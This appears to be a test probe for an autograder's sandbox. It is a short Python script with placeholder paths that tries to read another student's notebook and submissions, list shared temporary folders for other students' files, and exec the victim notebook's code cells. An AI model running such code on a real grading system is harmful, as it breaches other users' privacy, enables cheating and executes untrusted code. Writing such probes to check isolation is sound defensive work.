"""Reads the notebook of a classmate and takes its answers."""

# class g
# posterior: not attempted
# %%
import json
import os

for path in ("@VICTIM@", "@SUBMISSIONS@"):
    try:
        os.listdir(path) if os.path.isdir(path) else open(path).read()
        won(f"read {path}")
    except OSError:
        pass
for folder in ("/tmp", "/var/tmp", "/dev/shm", "@TEMPORARY@", os.path.dirname(os.getcwd())):
    try:
        others = [name for name in os.listdir(folder) if name.startswith(("autograder-", "student-"))]
        if others:
            won(f"looked around in {folder}: {others}")
    except OSError:
        pass
try:
    exec(
        compile(
            "\n".join("".join(c["source"]) for c in json.load(open("@VICTIM@"))["cells"] if c["cell_type"] == "code"),
            "x",
            "exec",
        )
    )
except OSError:
    pass
